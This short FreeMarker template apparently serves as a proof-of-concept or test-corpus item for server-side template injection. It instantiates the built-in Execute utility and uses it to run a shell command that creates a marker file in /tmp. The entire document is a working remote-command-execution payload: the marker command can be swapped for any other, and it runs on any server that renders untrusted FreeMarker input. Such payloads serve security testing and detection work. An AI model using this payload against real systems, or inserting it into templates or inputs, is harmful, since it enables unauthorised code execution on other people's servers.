<#assign ex = "freemarker.template.utility.Execute"?new()>
${ex("touch /tmp/converge-corpus-pwned")}
